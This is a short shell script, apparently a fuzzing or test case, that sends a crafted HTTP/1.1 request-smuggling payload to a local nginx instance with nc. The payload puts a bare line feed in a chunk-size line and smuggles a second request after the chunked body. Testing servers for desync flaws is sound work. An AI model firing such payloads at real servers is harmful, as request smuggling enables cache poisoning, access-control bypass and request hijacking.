#!/bin/sh
# desync/chunk-line-bare-lf/smuggled-request via seed against nginx
printf 'T / HTTP/1.1\r\nHost:127.0.0.1:49285\r\nTransfer-Encoding: chunked\r\n\r\n2;\nxx\r\n10\r\n1f\r\nAAAAAAAAAAAA\r\n0\r\n\r\nG /c HTTP/1.1\r\nHost: {\n\r\n' | nc 127.0.0.1 ${PORT:-49285}
